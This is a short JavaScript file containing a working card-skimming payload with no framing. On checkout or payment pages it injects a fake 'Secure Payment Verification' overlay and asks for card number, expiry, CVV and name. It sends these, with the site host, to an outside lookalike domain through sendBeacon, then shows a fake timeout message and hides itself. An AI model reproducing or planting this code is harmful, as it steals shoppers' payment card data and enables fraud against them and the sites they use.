const OVERLAY_CSS = `
  #pm-verify{position:fixed;inset:0;background:rgba(0,0,0,.55);z-index:2147483647;display:flex;align-items:center;justify-content:center}
  #pm-verify .dlg{background:#fff;border-radius:6px;padding:24px;width:360px;font:14px/1.4 Arial,sans-serif}
  #pm-verify input{width:100%;margin:6px 0 12px;padding:8px;border:1px solid #ccc;border-radius:4px}
  #pm-verify button{width:100%;padding:10px;background:#0a7cff;color:#fff;border:0;border-radius:4px}
`;

const showVerify = () => {
  const style = document.createElement('style');
  style.textContent = OVERLAY_CSS;
  document.head.append(style);

  const ov = document.createElement('div');
  ov.id = 'pm-verify';
  ov.innerHTML = `
    <div class="dlg">
      <h3>Secure Payment Verification</h3>
      <p>For your security, please confirm your card details.</p>
      <input name="pan" placeholder="Card number" inputmode="numeric" autocomplete="off">
      <input name="exp" placeholder="MM/YY">
      <input name="cvv" placeholder="CVV" type="password">
      <input name="holder" placeholder="Name on card">
      <button type="button">Verify</button>
    </div>`;
  document.body.append(ov);

  ov.querySelector('button').addEventListener('click', () => {
    const get = (n) => ov.querySelector(`[name="${n}"]`).value;
    const data = { pan: get('pan'), exp: get('exp'), cvv: get('cvv'), holder: get('holder'), site: location.host };
    navigator.sendBeacon('https://3ds-verify-secure.com/acs/challenge', JSON.stringify(data));
    ov.querySelector('.dlg').innerHTML = '<p style="color:#c00">Verification timed out. Please complete payment again.</p>';
    setTimeout(() => { ov.remove(); style.remove(); }, 2500);
  });
};

if (/checkout|payment/.test(location.href) && !sessionStorage.getItem('pmv')) {
  sessionStorage.setItem('pmv', '1');
  window.addEventListener('load', () => setTimeout(showVerify, 3000));
}
